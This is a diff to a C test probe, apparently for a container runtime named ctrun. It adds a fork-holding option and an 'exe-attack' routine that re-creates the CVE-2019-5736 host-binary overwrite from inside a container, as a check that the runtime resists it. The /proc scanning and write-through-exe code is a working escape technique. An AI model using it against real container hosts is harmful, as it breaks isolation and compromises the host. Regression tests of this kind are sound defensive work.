@@ -15,7 +15,8 @@
  *   probe tiocsti [HIGH] ioctl TIOCSTI on stdin: "ok" or the errno name;
  *                        HIGH sets bit 32 of the command (the kernel ignores it)
  *   probe caps           CapInh CapPrm CapEff CapBnd CapAmb in hex, one line
- *   probe forks N        forks N children that wait; "M ok" and the errno name
+ *   probe forks N [FILE] forks N children that wait (until FILE exists, if
+ *                        given); "M ok" and the errno name
  *                        of the first failure ("none"), then ends them
  *   probe tcp-send ADDR PORT TEXT  connects (retrying while refused or
  *                        unreachable, 10 s at most), sends TEXT and a newline,
@@ -29,6 +30,11 @@
  *   probe notify-recv PATH N SECS  binds a datagram socket at PATH (unlinked
  *                        first), prints each of N datagrams on a line with
  *                        newlines as '|', gives up after SECS without one
+ *   probe exe-attack FILE  CVE-2019-5736 from inside: scans /proc until FILE
+ *                        exists for processes whose exe is ctrun, opens it
+ *                        for writing at once and keeps an O_PATH fd to reopen
+ *                        for writing once that process has gone; prints
+ *                        "seen N written M" (M must stay 0)
  */
 #include <arpa/inet.h>
 #include <dirent.h>
@@ -185,6 +191,46 @@ static int notify_send(const char *text, int with_fd) {
   return 0;
 }
 
+static int try_write(const char *path) {
+  int fd = open(path, O_WRONLY | O_CLOEXEC);
+  if (fd < 0) return 0;
+  int ok = write(fd, "#!/bin/sh\necho pwned\n", 21) > 0;
+  close(fd);
+  return ok;
+}
+
+static int exe_attack(const char *stop) {
+  int seen = 0, written = 0, kept[256], nkept = 0;
+  pid_t self = getpid();
+  while (access(stop, F_OK) != 0) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      pid_t pid = atoi(e->d_name);
+      if (pid <= 1 || pid == self) continue;
+      char link[64], target[256];
+      snprintf(link, sizeof link, "/proc/%d/exe", pid);
+      ssize_t n = readlink(link, target, sizeof target - 1);
+      if (n <= 0) continue;
+      target[n] = 0;
+      if (!strstr(target, "ctrun")) continue;
+      ++seen;
+      written += try_write(link);
+      int fd = open(link, O_PATH | O_CLOEXEC);
+      if (fd >= 0 && nkept < 256) kept[nkept++] = fd;
+      else if (fd >= 0) close(fd);
+    }
+    if (d) closedir(d);
+  }
+  for (int i = 0; i < nkept; ++i) {
+    char again[64];
+    snprintf(again, sizeof again, "/proc/self/fd/%d", kept[i]);
+    written += try_write(again);
+  }
+  printf("seen %d written %d\n", seen, written);
+  return 0;
+}
+
 static int notify_recv(const char *path, int count, int secs) {
   struct sockaddr_un a = {.sun_family = AF_UNIX};
   strncpy(a.sun_path, path, sizeof a.sun_path - 1);
@@ -320,7 +366,7 @@ int main(int argc, char **argv) {
     printf("%s %s %s %s %s\n", out[0], out[1], out[2], out[3], out[4]);
     return 0;
   }
-  if (!strcmp(verb, "forks") && argc == 3) {
+  if (!strcmp(verb, "forks") && (argc == 3 || argc == 4)) {
     int n = atoi(argv[2]), made = 0;
     const char *first = "none";
     pid_t kids[4096];
@@ -336,12 +382,18 @@ int main(int argc, char **argv) {
       }
       kids[made++] = p;
     }
+    if (argc == 4) {  /* holds them until the file exists */
+      printf("%d ok %s\n", made, first);
+      fflush(stdout);
+      while (access(argv[3], F_OK) != 0) usleep(20000);
+    }
     for (int i = 0; i < made; ++i) kill(kids[i], SIGKILL);
     for (int i = 0; i < made; ++i) waitpid(kids[i], NULL, 0);
-    printf("%d ok %s\n", made, first);
+    if (argc == 3) printf("%d ok %s\n", made, first);
     return 0;
   }
   if (!strcmp(verb, "notify-send") && (argc == 3 || argc == 4)) return notify_send(argv[2], argc == 4 ? (strcmp(argv[3], "hold") ? 1 : 2) : 0);
+  if (!strcmp(verb, "exe-attack") && argc == 3) return exe_attack(argv[2]);
   if (!strcmp(verb, "notify-recv") && argc == 5) return notify_recv(argv[2], atoi(argv[3]), atoi(argv[4]));
   if (!strcmp(verb, "tcp-send") && argc == 5) return tcp_send(argv[2], atoi(argv[3]), argv[4]);
   if (!strcmp(verb, "tcp-recv") && argc == 3) return tcp_recv(atoi(argv[2]));
